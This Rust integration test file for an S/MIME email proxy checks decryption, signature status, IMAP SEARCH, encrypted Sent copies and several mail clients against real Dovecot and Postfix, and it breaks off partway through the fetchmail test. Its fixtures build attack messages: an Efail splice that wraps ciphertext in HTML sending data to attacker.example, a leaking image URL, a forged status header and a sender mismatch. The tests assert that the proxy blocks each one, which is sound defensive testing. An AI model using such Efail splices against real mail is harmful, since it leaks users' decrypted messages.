//! End to end on the reading side: a real Dovecot (IMAPS and STARTTLS), messages made by
//! envelopd's own SMTP path (through real Postfix), by `openssl cms` (AES-GCM) and by `gpgsm`
//! (BER), plus attacks (a forged status header, an encrypted part wrapped in attacker HTML, a
//! signer who is not the sender), all read through `envelopd run`'s IMAP side with Python's
//! imaplib. Every FETCH form must describe the same shown message, and its BODYSTRUCTURE must
//! equal what Dovecot itself says about those bytes.

mod common;

use std::collections::HashMap;
use std::path::Path;
use std::process::{Command, Stdio};

use common::lab::{ok, Lab};
use common::provider::Provider;
use testkit::procs::{free_port, wait_for, Proc};

const ENVELOPD: &str = env!("CARGO_BIN_EXE_envelopd");
const SECRET: &str = "Befund Herr Muster: unauffaellig.";

fn b64d(s: &serde_json::Value) -> Vec<u8> {
    smime::mime::base64_decode(s.as_str().unwrap().as_bytes()).unwrap()
}

/// envelopd for one practice: its key(s), the RFC 9216 CA, IMAP and SMTP in front of `provider`.
fn envelopd(
    provider: &Provider,
    who: &str,
    imap_tls: &str,
    imap_port: u16,
) -> (tempfile::TempDir, u16, u16, Proc) {
    envelopd_with(provider, who, imap_tls, imap_port, "")
}

/// Like [`envelopd`], with extra configuration appended (identity keys, a [policy] section).
fn envelopd_with(
    provider: &Provider,
    who: &str,
    imap_tls: &str,
    imap_port: u16,
    extra: &str,
) -> (tempfile::TempDir, u16, u16, Proc) {
    envelopd_env(provider, who, imap_tls, imap_port, extra, &[], "")
}

/// Like [`envelopd_with`], with extra environment variables for the daemon and extra lines for
/// its `[imap]` section.
fn envelopd_env(
    provider: &Provider,
    who: &str,
    imap_tls: &str,
    imap_port: u16,
    extra: &str,
    env: &[(&str, &str)],
    imap_extra: &str,
) -> (tempfile::TempDir, u16, u16, Proc) {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    common::practice_dir(d, who, &[]);
    let (smtp, imap) = (free_port(), free_port());
    std::fs::write(
        d.join("proxy.toml"),
        format!(
            "[smtp]\nlisten = \"127.0.0.1:{smtp}\"\n[imap]\nlisten = \"127.0.0.1:{imap}\"\n{imap_extra}\
             [upstream.smtp]\nhost = \"localhost\"\nport = {}\ntls = \"starttls\"\nca_file = \"{ca}\"\nsystem_roots = false\n\
             [upstream.imap]\nhost = \"localhost\"\nport = {imap_port}\ntls = \"{imap_tls}\"\nca_file = \"{ca}\"\nsystem_roots = false\n\
             [certificates]\nanchors = [\"trust\"]\nrecipients = \"certs\"\n\
             [[identity]]\naddresses = [\"{who}@smime.example\"]\npkcs12 = \"keys/{who}.p12\"\npassword_file = \"keys/pw\"\n{extra}",
            provider.submission,
            ca = provider.ca().display()
        ),
    )
    .unwrap();
    let p = common::run_envelopd_env(&d.join("proxy.toml"), &d.join("envelopd.log"), env);
    wait_for(smtp);
    wait_for(imap);
    (dir, smtp, imap, p)
}

/// Sends one message through an envelopd's SMTP side with swaks, logged in as `user`.
fn send_mail(port: u16, user: &str, pw: &str, to: &str, subject: &str) -> std::process::Output {
    Command::new("swaks")
        .args(["--server", &format!("127.0.0.1:{port}"), "--auth", "PLAIN"])
        .args(["--auth-user", user, "--auth-password", pw])
        .args(["--from", user, "--to", to])
        .args([
            "--header",
            &format!("Subject: {subject}"),
            "--header",
            &format!("From: {user}"),
        ])
        .args(["--body", SECRET])
        .output()
        .unwrap()
}

fn mail(from: &str, subject: &str, body: &str) -> Vec<u8> {
    format!(
        "From: {from}\r\nTo: Bob <bob@smime.example>\r\nSubject: {subject}\r\nMessage-ID: <{subject}@test>\r\nDate: Wed, 25 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
    )
    .into_bytes()
    .into_iter()
    .chain(format!("Content-Type: text/plain; charset=us-ascii\r\n\r\n{body}\r\n").into_bytes())
    .collect()
}

fn openssl(args: &[&str], input: &[u8]) -> Vec<u8> {
    testkit::openssl_pipe(args, input).unwrap_or_else(|e| panic!("openssl {args:?}: {e}"))
}

/// The messages Bob's mailbox receives besides the one sent through envelopd.
fn deliver_test_messages(provider: &Provider, lab: &Lab) {
    let v = common::rfc9216();
    let p = |n: &str| v.join(n).display().to_string();
    // openssl: signed by Alice, then AES-256-GCM AuthEnvelopedData to Bob.
    let signed = openssl(
        &[
            "cms",
            "-sign",
            "-signer",
            &p("alice.sign.crt"),
            "-inkey",
            &p("alice.sign.key"),
        ],
        &mail("Alice <alice@smime.example>", "openssl-gcm", SECRET),
    );
    let enc = openssl(
        &[
            "cms",
            "-encrypt",
            "-aes-256-gcm",
            "-from",
            "Alice <alice@smime.example>",
            "-to",
            "Bob <bob@smime.example>",
            "-subject",
            "openssl-gcm",
            &p("bob.encrypt.crt"),
        ],
        &signed,
    );
    provider.deliver("bob", "1.openssl", &enc);

    // gpgsm: BER with indefinite lengths, AES-256-CBC to Bob, wrapped by hand (gpgsm does no MIME).
    let inner =
        b"Content-Type: text/plain; charset=us-ascii\r\n\r\nBefund Herr Muster: unauffaellig.\r\n";
    let f = lab.write("gpgsm-in.txt", inner);
    let o = lab.gpgsm(
        &[
            "--encrypt",
            "--cipher-algo",
            "AES256",
            "-r",
            "bob@smime.example",
            "--output",
            "-",
            &f,
        ],
        None,
    );
    let der = ok(&o, "gpgsm --encrypt").unwrap();
    let mut m = b"From: Alice <alice@smime.example>\r\nTo: bob@smime.example\r\nSubject: gpgsm-ber\r\nMIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n".to_vec();
    m.extend_from_slice(&smime::mime::base64_lines(&der));
    provider.deliver("bob", "2.gpgsm", &m);

    // NSS cmsutil (Thunderbird's engine): BER, to Bob, wrapped by hand.
    let o = common::lab::run(
        "certutil",
        &[
            "-A",
            "-d",
            &lab.nss_alice,
            "-n",
            "bob",
            "-t",
            ",,",
            "-i",
            &p("bob.encrypt.crt"),
        ],
        None,
        &[],
    );
    ok(&o, "certutil -A bob").unwrap();
    let out = lab.p("nss-out.p7m");
    let o = common::lab::run(
        "cmsutil",
        &[
            "-E",
            "-r",
            "bob@smime.example",
            "-i",
            &f,
            "-o",
            &out,
            "-d",
            &lab.nss_alice,
        ],
        None,
        &[],
    );
    ok(&o, "cmsutil -E").unwrap();
    let der = std::fs::read(&out).unwrap();
    let mut m = b"From: Alice <alice@smime.example>\r\nTo: bob@smime.example\r\nSubject: nss-ber\r\nMIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n".to_vec();
    m.extend_from_slice(&smime::mime::base64_lines(&der));
    provider.deliver("bob", "2b.nss", &m);

    // A signature over one part only ("Johnny, you are fired"): no message-wide verdict.
    let signed_part = openssl(
        &[
            "cms",
            "-sign",
            "-signer",
            &p("alice.sign.crt"),
            "-inkey",
            &p("alice.sign.key"),
        ],
        b"Content-Type: text/plain\r\n\r\nI, Alice, approve.\r\n",
    );
    let part = smime::mime::split(&signed_part);
    let mut wrapped = b"From: Alice <alice@smime.example>\r\nTo: bob@smime.example\r\nSubject: part-signed\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"W\"\r\n\r\n--W\r\nContent-Type: text/plain\r\n\r\nYou are fired.\r\n--W\r\n".to_vec();
    wrapped.extend_from_slice(&signed_part[..signed_part.len() - part.body.len()]);
    wrapped.extend_from_slice(part.body);
    wrapped.extend_from_slice(b"\r\n--W--\r\n");
    provider.deliver("bob", "2c.partsigned", &wrapped);

    // A plain message with a forged status header.
    let mut forged =
        b"X-Envelopd: decrypted=aes-256-gcm; signature=valid; signer=alice@smime.example\r\n"
            .to_vec();
    forged.extend_from_slice(&mail(
        "Alice <alice@smime.example>",
        "forged-status",
        "Please wire the money.",
    ));
    provider.deliver("bob", "3.forged", &forged);

    // Efail direct exfiltration: an encrypted part between attacker HTML parts.
    let part = openssl(
        &["cms", "-encrypt", "-aes256", &p("bob.encrypt.crt")],
        format!("Content-Type: text/plain\r\n\r\n{SECRET}\r\n").as_bytes(),
    );
    let part = smime::mime::split(&part);
    let mut efail = b"From: Alice <alice@smime.example>\r\nTo: bob@smime.example\r\nSubject: efail\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"BOUNDARY\"\r\n\r\n--BOUNDARY\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--BOUNDARY\r\n".to_vec();
    efail.extend_from_slice(part.header);
    efail.extend_from_slice(b"\r\n");
    efail.extend_from_slice(part.body);
    efail.extend_from_slice(
        b"\r\n--BOUNDARY\r\nContent-Type: text/html\r\n\r\n\">\r\n--BOUNDARY--\r\n",
    );
    provider.deliver("bob", "4.efail", &efail);

    // Signed by Alice, but From: Carol.
    let spoof = openssl(
        &[
            "cms",
            "-sign",
            "-signer",
            &p("alice.sign.crt"),
            "-inkey",
            &p("alice.sign.key"),
        ],
        &mail(
            "Carol <carol@smime.example>",
            "from-mismatch",
            "I am Carol, honestly.",
        ),
    );
    provider.deliver("bob", "5.spoof", &spoof);

    // Encrypted only to Alice: Bob's envelopd cannot open it.
    let not_for_bob = openssl(
        &[
            "cms",
            "-encrypt",
            "-aes256",
            "-from",
            "alice@smime.example",
            "-to",
            "bob@smime.example",
            "-subject",
            "not-for-bob",
            &p("alice.encrypt.crt"),
        ],
        format!("Content-Type: text/plain\r\n\r\n{SECRET}\r\n").as_bytes(),
    );
    provider.deliver("bob", "6.notforbob", &not_for_bob);

    // HTML, CBC-encrypted, unsigned: a CBC gadget could have planted this image; it must not load.
    let html = openssl(
        &["cms", "-encrypt", "-aes256", "-from", "alice@smime.example", "-to", "bob@smime.example", "-subject", "html-cbc", &p("bob.encrypt.crt")],
        b"Content-Type: text/html; charset=us-ascii\r\n\r\n<p>Befund</p><img src=\"http://attacker.example/leak\">\r\n",
    );
    provider.deliver("bob", "8.html", &html);

    // A forwarded message inside an encrypted one: its BODYSTRUCTURE has an envelope of its own.
    let fwd = openssl(
        &["cms", "-encrypt", "-aes256", "-from", "alice@smime.example", "-to", "bob@smime.example", "-subject", "forwarded", &p("bob.encrypt.crt")],
        b"Content-Type: multipart/mixed; boundary=\"M\"\r\n\r\n--M\r\nContent-Type: text/plain\r\n\r\nSee the forwarded message.\r\n--M\r\nContent-Type: message/rfc822\r\n\r\nFrom: Carol <carol@smime.example>\r\nTo: bob@smime.example, Dana <dana@smime.example>\r\nSubject: original\r\nDate: Tue, 24 Nov 2026 09:00:00 +0000\r\nMessage-ID: <orig@test>\r\n\r\nOriginal text.\r\n--M--\r\n",
    );
    provider.deliver("bob", "9.fwd", &fwd);

    // Plain mail stays exactly as stored.
    provider.deliver(
        "bob",
        "7.plain",
        &mail("Carol <carol@smime.example>", "plain", "Hello Bob."),
    );
}

fn subject_of(message: &[u8]) -> String {
    let text = String::from_utf8_lossy(message);
    text.lines()
        .find_map(|l| l.strip_prefix("Subject: ").map(str::to_string))
        .unwrap_or_default()
}

fn status_of(message: &[u8]) -> Option<String> {
    let e = smime::mime::split(message);
    let text = String::from_utf8_lossy(e.header);
    text.lines()
        .find_map(|l| l.strip_prefix("X-Envelopd: ").map(str::to_string))
}

/// IMAP BODYSTRUCTURE text with case and insignificant spacing normalised.
fn norm(s: &str) -> String {
    s.to_ascii_lowercase()
}

fn read_through(imap_port: u16, provider: &Provider, log: &Path) -> serde_json::Value {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/clients/imap_read.py");
    let o = Command::new("python3")
        .arg(script)
        .args([&imap_port.to_string(), "bob@smime.example", "bob-pw"])
        .arg(provider.imaps.to_string())
        .arg(provider.ca())
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "imap_read.py: {}\nenvelopd's log:\n{}",
        String::from_utf8_lossy(&o.stderr),
        std::fs::read_to_string(log).unwrap_or_default()
    );
    serde_json::from_slice(&o.stdout).unwrap()
}

#[test]
fn encrypted_mail_reads_as_plain_with_a_trustworthy_status_in_every_fetch_form() {
    let provider = Provider::start();
    let lab = Lab::new();
    // Alice's practice sends through envelopd (signed + encrypted to Bob) via real Postfix.
    let (_alice_dir, alice_smtp, _alice_imap, _alice) =
        envelopd(&provider, "alice", "implicit", provider.imaps);
    let o = send_mail(
        alice_smtp,
        "alice@smime.example",
        "alice-pw",
        "bob@smime.example",
        "smtp-path",
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stdout));
    assert_eq!(provider.wait_messages("bob", 1).len(), 1);
    deliver_test_messages(&provider, &lab);

    for (mode, port) in [("implicit", provider.imaps), ("starttls", provider.imap)] {
        let (bob_dir, _bob_smtp, bob_imap, _bob) = envelopd(&provider, "bob", mode, port);
        let seen = read_through(bob_imap, &provider, &bob_dir.path().join("envelopd.log"));
        let log = std::fs::read_to_string(bob_dir.path().join("envelopd.log")).unwrap();
        let caps: Vec<String> = seen["capabilities"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c.as_str().unwrap().to_ascii_uppercase())
            .collect();
        for hidden in ["BINARY", "CATENATE", "URL-PARTIAL", "COMPRESS=DEFLATE"] {
            assert!(
                !caps.iter().any(|c| c == hidden),
                "{mode}: {hidden} must be hidden: {caps:?}"
            );
        }
        let mut by_subject = HashMap::new();
        for m in seen["messages"].as_array().unwrap() {
            let body = b64d(&m["body"]);
            let subject = subject_of(&body);
            // Every FETCH form describes the same bytes.
            assert_eq!(
                m["size"].as_u64().unwrap() as usize,
                body.len(),
                "{mode} {subject}: RFC822.SIZE"
            );
            assert_eq!(
                b64d(&m["rfc822"]),
                body,
                "{mode} {subject}: RFC822 by sequence number"
            );
            let (header, text) = (b64d(&m["header"]), b64d(&m["text"]));
            assert_eq!(
                [header.clone(), text.clone()].concat(),
                body,
                "{mode} {subject}: HEADER + TEXT"
            );
            assert_eq!(
                b64d(&m["partial"]),
                body[7..47.min(body.len())],
                "{mode} {subject}: <7.40>"
            );
            assert_eq!(m["dovecot_size"].as_u64().unwrap() as usize, body.len());
            assert_eq!(
                norm(m["bodystructure"].as_str().unwrap()),
                norm(m["dovecot_bodystructure"].as_str().unwrap()),
                "{mode} {subject}: BODYSTRUCTURE must equal Dovecot's for the same bytes"
            );
            by_subject.insert(subject, (body, b64d(&m["part1"])));
        }
        let status = |s: &str| {
            let (body, _) = by_subject
                .get(s)
                .unwrap_or_else(|| panic!("{mode}: no message {s:?} in {:?}", by_subject.keys()));
            status_of(body)
        };
        let body = |s: &str| String::from_utf8_lossy(&by_subject[s].0).to_string();

        assert_eq!(
            status("smtp-path").as_deref(),
            Some("decrypted=aes-256-cbc; integrity=none; signature=valid; signer=alice@smime.example; headers=protected"),
            "{mode}\n{log}"
        );
        assert!(body("smtp-path").contains(SECRET));
        assert_eq!(
            status("openssl-gcm").as_deref(),
            Some("decrypted=aes-256-gcm; signature=valid; signer=alice@smime.example"),
            "{mode}"
        );
        assert!(body("openssl-gcm").contains(SECRET));
        assert_eq!(
            status("gpgsm-ber").as_deref(),
            Some("decrypted=aes-256-cbc; integrity=none; signature=none"),
            "{mode}"
        );
        assert_eq!(
            String::from_utf8_lossy(&by_subject["gpgsm-ber"].1),
            format!("{SECRET}\r\n"),
            "{mode}: BODY[1] of the decrypted gpgsm message"
        );
        let nss = status("nss-ber").unwrap();
        assert!(
            nss.starts_with("decrypted=") && !nss.starts_with("decrypted=failed"),
            "{mode}: {nss}"
        );
        assert!(body("nss-ber").contains(SECRET), "{mode}");
        assert_eq!(
            status("part-signed"),
            None,
            "{mode}: a signed part is no message-wide signature"
        );
        // The forged header is gone; the real one says the truth.
        assert_eq!(
            status("forged-status").as_deref(),
            Some("decrypted=no; signature=none")
        );
        assert_eq!(body("forged-status").matches("X-Envelopd:").count(), 1);
        // The encrypted part inside attacker HTML is not opened, and no status is claimed.
        assert_eq!(status("efail"), None, "{mode}");
        assert!(!body("efail").contains(SECRET), "{mode}: Efail splice");
        assert_eq!(
            status("from-mismatch").as_deref(),
            Some("decrypted=no; signature=from-mismatch; reason=\"certificate 'CN=Alice Lovelace,OU=LAMPS WG,O=IETF' is for alice@smime.example, not for carol@smime.example\"; signer=alice@smime.example"),
            "{mode}"
        );
        let failed = status("not-for-bob").unwrap();
        assert!(failed.starts_with("decrypted=failed; reason="), "{failed}");
        assert_eq!(status("plain"), None);
        assert!(body("forwarded").contains("Original text."), "{mode}");
        assert_eq!(
            status("html-cbc").as_deref(),
            Some("decrypted=aes-256-cbc; integrity=none; signature=none; remote-content=blocked"),
            "{mode}"
        );
        let shown_html = mail_parser::MessageParser::default()
            .parse(&by_subject["html-cbc"].0[..])
            .unwrap()
            .body_html(0)
            .unwrap()
            .to_string();
        assert!(
            shown_html.contains("<p>Befund</p>") && !shown_html.contains("src=\"http"),
            "{mode}: {shown_html}"
        );
        // SEARCH finds what only the decrypted messages contain, in every form of the query.
        let uid_of = |subject: &str| -> u64 {
            seen["messages"]
                .as_array()
                .unwrap()
                .iter()
                .find(|m| subject_of(&b64d(&m["body"])) == subject)
                .unwrap()["uid"]
                .as_u64()
                .unwrap()
        };
        let all: Vec<u64> = seen["messages"]
            .as_array()
            .unwrap()
            .iter()
            .map(|m| m["uid"].as_u64().unwrap())
            .collect();
        let uids = |q: &str| -> Vec<u64> {
            seen["searches"][q]
                .as_array()
                .unwrap()
                .iter()
                .map(|u| u.as_u64().unwrap())
                .collect()
        };
        let mut secret: Vec<u64> = ["smtp-path", "openssl-gcm", "gpgsm-ber", "nss-ber"]
            .iter()
            .map(|s| uid_of(s))
            .collect();
        secret.sort();
        assert_eq!(uids("BODY unauffaellig"), secret, "{mode}: SEARCH BODY");
        assert_eq!(uids("TEXT UNAUFFAELLIG"), secret, "{mode}: SEARCH TEXT");
        let rest: Vec<u64> = all
            .iter()
            .copied()
            .filter(|u| !secret.contains(u))
            .collect();
        assert_eq!(
            uids("NOT BODY unauffaellig"),
            rest,
            "{mode}: SEARCH NOT BODY"
        );
        let mut or = secret.clone();
        or.push(uid_of("plain"));
        or.sort();
        assert_eq!(
            uids("OR BODY unauffaellig SUBJECT plain"),
            or,
            "{mode}: SEARCH OR"
        );
        assert_eq!(
            uids("BODY unauffaellig SUBJECT openssl-gcm"),
            vec![uid_of("openssl-gcm")]
        );
        let by_seq: Vec<u64> = seen["uid_by_seq"]
            .as_array()
            .unwrap()
            .iter()
            .map(|u| u.as_u64().unwrap())
            .collect();
        let seqs: Vec<u64> = secret
            .iter()
            .map(|u| by_seq.iter().position(|x| x == u).unwrap() as u64 + 1)
            .collect();
        assert_eq!(
            uids("seq: BODY unauffaellig"),
            seqs,
            "{mode}: SEARCH by sequence number"
        );
        assert!(!log.contains(SECRET), "no message text in the log");
    }
    // The provider still holds only ciphertext.
    let stored = provider.all_messages("bob");
    assert_eq!(stored.len(), 12);
    for m in &stored {
        let text = String::from_utf8_lossy(m);
        assert!(
            !text.contains(SECRET),
            "the server's copy is never changed: {text}"
        );
    }
}

#[test]
fn appended_sent_copies_are_stored_encrypted_and_idle_sees_new_mail() {
    use std::io::BufRead;
    let provider = Provider::start();
    let (_alice_dir, alice_smtp, _ai, _alice) =
        envelopd(&provider, "alice", "implicit", provider.imaps);
    let (bob_dir, _bs, bob_imap, _bob) = envelopd(&provider, "bob", "starttls", provider.imap);
    let script =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/clients/imap_append_idle.py");
    let mut child = Command::new("python3")
        .arg(script)
        .args([&bob_imap.to_string(), "bob@smime.example", "bob-pw"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let stdout = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut events = Vec::new();
    for line in stdout.lines() {
        let line = line.unwrap();
        let v: serde_json::Value = serde_json::from_str(&line).unwrap();
        if v.get("idling").is_some() {
            // Now a message arrives the real way: Alice's envelopd -> Postfix -> Bob's Maildir.
            let o = send_mail(
                alice_smtp,
                "alice@smime.example",
                "alice-pw",
                "bob@smime.example",
                "while idling",
            );
            assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stdout));
        }
        events.push(v);
    }
    let out = child.wait_with_output().unwrap();
    let log = std::fs::read_to_string(bob_dir.path().join("envelopd.log")).unwrap();
    assert!(
        out.status.success(),
        "{}\n{log}",
        String::from_utf8_lossy(&out.stderr)
    );
    // The Sent copy reads back as plain text, with its real Subject and its Bcc, and says it
    // was stored encrypted (AES-256-GCM) with protected header fields.
    let back = b64d(&events[0]["sent_read_back"]);
    assert!(String::from_utf8_lossy(&back).contains("Sent copy secret 42"));
    assert_eq!(
        status_of(&back).as_deref(),
        Some("decrypted=aes-256-gcm; signature=none; headers=protected")
    );
    assert_eq!(subject_of(&back), "sent copy");
    assert!(String::from_utf8_lossy(&back).contains("Bcc: carol@smime.example\r\n"));
    // On the server's disk: ciphertext in Sent, the INBOX append untouched.
    let sent_dir = provider.dir.path().join("mail/smime.example/bob/.Sent");
    let stored: Vec<Vec<u8>> = ["new", "cur"]
        .iter()
        .flat_map(|d| std::fs::read_dir(sent_dir.join(d)).unwrap())
        .map(|e| std::fs::read(e.unwrap().path()).unwrap())
        .collect();
    assert_eq!(stored.len(), 1);
    let text = String::from_utf8_lossy(&stored[0]);
    assert!(
        text.contains("application/pkcs7-mime") && !text.contains("Sent copy secret 42"),
        "{text}"
    );
    // The server sees neither the Subject nor whom the mail went to in Bcc.
    assert_eq!(subject_of(&stored[0]), "[...]");
    assert!(
        !text.contains("sent copy") && !text.contains("carol@"),
        "{text}"
    );
    let inbox = provider.all_messages("bob");
    assert!(inbox
        .iter()
        .any(|m| String::from_utf8_lossy(m).contains("Inbox plain 43")));
    // IDLE through the proxy saw the delivery.
    assert_eq!(events[2]["exists"].as_u64(), Some(2), "{events:?}\n{log}");
    assert!(
        events[2]["after_idle"]
            .as_str()
            .unwrap()
            .contains("unauffaellig"),
        "the new message reads decrypted right after IDLE: {events:?}"
    );

    // A reload turns header protection off for the next Sent copy: still stored encrypted, its
    // Subject now visible to the server.
    let cfg = bob_dir.path().join("proxy.toml");
    let mut text = std::fs::read_to_string(&cfg).unwrap();
    text.push_str("[policy]\nheader_protection = \"off\"\n");
    std::fs::write(&cfg, text).unwrap();
    testkit::procs::signal(_bob.0.id(), "HUP");
    let log_path = bob_dir.path().join("envelopd.log");
    let reloaded = (0..100).any(|_| {
        std::thread::sleep(std::time::Duration::from_millis(50));
        std::fs::read_to_string(&log_path).is_ok_and(|l| l.contains("policy reloaded"))
    });
    assert!(reloaded, "{}", std::fs::read_to_string(&log_path).unwrap());
    let o = Command::new("python3")
        .args([
            "-c",
            "import imaplib, sys\n\
             m = imaplib.IMAP4('127.0.0.1', int(sys.argv[1]))\n\
             m.login('bob@smime.example', 'bob-pw')\n\
             typ, _ = m.append('Sent', None, None, b'From: bob@smime.example\\r\\nTo: alice@smime.example\\r\\nSubject: after reload\\r\\n\\r\\nSecond secret 44\\r\\n')\n\
             assert typ == 'OK', typ\n",
            &bob_imap.to_string(),
        ])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let stored: Vec<Vec<u8>> = ["new", "cur"]
        .iter()
        .flat_map(|d| std::fs::read_dir(sent_dir.join(d)).unwrap())
        .map(|e| std::fs::read(e.unwrap().path()).unwrap())
        .collect();
    let second = stored
        .iter()
        .find(|m| subject_of(m) != "[...]")
        .expect("a second Sent copy");
    let text = String::from_utf8_lossy(second);
    assert_eq!(subject_of(second), "after reload");
    assert!(
        text.contains("application/pkcs7-mime") && !text.contains("Second secret 44"),
        "{text}"
    );
}

#[test]
fn a_verified_signature_teaches_the_sender_s_certificate_and_capabilities() {
    let provider = Provider::start();
    let v = common::rfc9216();
    let enc = v.join("alice.encrypt.crt").display().to_string();
    let (_ad, alice_smtp, _ai, _alice) = envelopd_with(
        &provider,
        "alice",
        "implicit",
        provider.imaps,
        &format!("encryption_cert = \"{enc}\"\n"),
    );
    let (bob_dir, bob_smtp, bob_imap, _bob) = envelopd_with(
        &provider,
        "bob",
        "implicit",
        provider.imaps,
        "[policy]\nfallback = \"refuse\"\n",
    );
    // Bob has no certificate for Alice yet: refused under policy "refuse".
    let o = send_mail(
        bob_smtp,
        "bob@smime.example",
        "bob-pw",
        "alice@smime.example",
        "too early",
    );
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("550 5.7.1"),
        "{}",
        String::from_utf8_lossy(&o.stdout)
    );
    // Alice writes to Bob (signed, with her encryption certificate and capabilities).
    let o = send_mail(
        alice_smtp,
        "alice@smime.example",
        "alice-pw",
        "bob@smime.example",
        "hello bob",
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stdout));
    provider.wait_messages("bob", 1);
    // Bob reads it through envelopd: the signature verifies, the certificate is learnt.
    let seen = read_through(bob_imap, &provider, &bob_dir.path().join("envelopd.log"));
    let shown = b64d(&seen["messages"][0]["body"]);
    assert!(status_of(&shown).unwrap().contains("signature=valid"));
    let log = std::fs::read_to_string(bob_dir.path().join("envelopd.log")).unwrap();
    assert!(log.contains("learnt an encryption certificate"), "{log}");
    // Now Bob's mail to Alice goes out encrypted, with AES-256-GCM, which her client announced.
    let o = send_mail(
        bob_smtp,
        "bob@smime.example",
        "bob-pw",
        "alice@smime.example",
        "now encrypted",
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stdout));
    let stored = provider.wait_messages("alice", 1);
    assert_eq!(stored.len(), 1);
    let text = String::from_utf8_lossy(&stored[0]);
    assert!(text.contains("smime-type=authEnveloped-data"), "{text}");
    let plain = openssl(
        &[
            "cms",
            "-decrypt",
            "-inkey",
            v.join("alice.encrypt.key").to_str().unwrap(),
        ],
        &stored[0],
    );
    assert!(
        String::from_utf8_lossy(&plain).contains("smime.p7s")
            || String::from_utf8_lossy(&plain).contains("multipart/signed")
    );
    // Learnt certificates are also kept on disk? Only when configured: not here, so none.
    assert!(!bob_dir.path().join("harvested").exists());
}

#[test]
fn curl_mbsync_fetchmail_and_s_nail_read_the_same_decrypted_message() {
    let provider = Provider::start();
    let (_ad, alice_smtp, _ai, _alice) = envelopd(&provider, "alice", "implicit", provider.imaps);
    let (bob_dir, _bs, bob_imap, _bob) = envelopd(&provider, "bob", "starttls", provider.imap);
    let o = send_mail(
        alice_smtp,
        "alice@smime.example",
        "alice-pw",
        "bob@smime.example",
        "for every reader",
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stdout));
    provider.wait_messages("bob", 1);
    let work = tempfile::tempdir().unwrap();
    let w = work.path();
    let log = || std::fs::read_to_string(bob_dir.path().join("envelopd.log")).unwrap_or_default();

    // curl: the reference bytes.
    let o = Command::new("curl")
        .args(["-sS", &format!("imap://127.0.0.1:{bob_imap}/INBOX;UID=1")])
        .args(["--user", "bob@smime.example:bob-pw"])
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "curl: {}\n{}",
        String::from_utf8_lossy(&o.stderr),
        log()
    );
    let shown = o.stdout;
    assert!(
        status_of(&shown)
            .unwrap()
            .starts_with("decrypted=aes-256-cbc; integrity=none; signature=valid"),
        "{}",
        String::from_utf8_lossy(&shown)
    );
    let body = smime::mime::split(&shown).body.to_vec();
    assert!(String::from_utf8_lossy(&body).contains(SECRET));

    // mbsync: a Maildir copy, byte for byte what curl got.
    std::fs::write(
        w.join("mbsyncrc"),
        format!(
            "IMAPAccount a\nHost 127.0.0.1\nPort {bob_imap}\nUser bob@smime.example\nPass bob-pw\nSSLType None\nAuthMechs LOGIN\n\n\
             IMAPStore remote\nAccount a\n\nMaildirStore local\nPath {0}/local/\nInbox {0}/local/INBOX\n\n\
             Channel c\nFar :remote:\nNear :local:\nPatterns INBOX\nSync Pull\nCreate Near\nSyncState *\n",
            w.display()
        ),
    )
    .unwrap();
    std::fs::create_dir(w.join("local")).unwrap();
    let o = Command::new("mbsync")
        .arg("-c")
        .arg(w.join("mbsyncrc"))
        .arg("-a")
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "mbsync: {}\n{}",
        String::from_utf8_lossy(&o.stderr),
        log()
    );
    // curl's fetch marked the message \Seen, so mbsync files it under cur/.
    let copies: Vec<_> = ["new", "cur"]
        .iter()
        .flat_map(|d| std::fs::read_dir(w.join("local/INBOX").join(d)).unwrap())
        .map(|e| std::fs::read(e.unwrap().path()).unwrap())
        .collect();
    assert_eq!(copies.len(), 1);
    // Maildir files use LF line ends; mbsync converts.
    let lf = |b: &[u8]| String::from_utf8_lossy(b).replace("\r\n", "\n");
    // mbsync also adds its own X-TUID tracking line.
    let mbsync_copy: String = lf(&copies[0])
        .lines()
        .filter(|l| !l.starts_with("X-TUID: "))
        .map(|l| format!("{l}\n"))
        .collect();
    assert_eq!(mbsync_copy, lf(&shown), "mbsync's copy");

    // fetchmail (keeping the message on the server): the same message after its Received line.
    std::fs::write(
        w.join("deliver.sh"),
        format!("#!/bin/sh\ncat >> {}/fetched.eml\n", w.display()),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(w.join("deliver.sh"), std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::write(
        w.join("fetchmailrc"),
        format!(
            "poll 127.0.0.1 protocol IMAP port {bob_imap} user \"bob@smime.example\" password \"bob-pw\" keep fetchall sslproto \"\" mda \"{}/deliver.sh\"\n",
            w.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(
        w.join("fetchmailrc"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    let o = Command::new("fetchmail")
        .arg("-f")
        .arg(w.join("fetchmailrc"))
        .args(["--nosyslog", "--nodetach"])
        .env("FETCHMAILHOME", w)
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "fetchmail: {}{}\n{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr),
        log()
    );
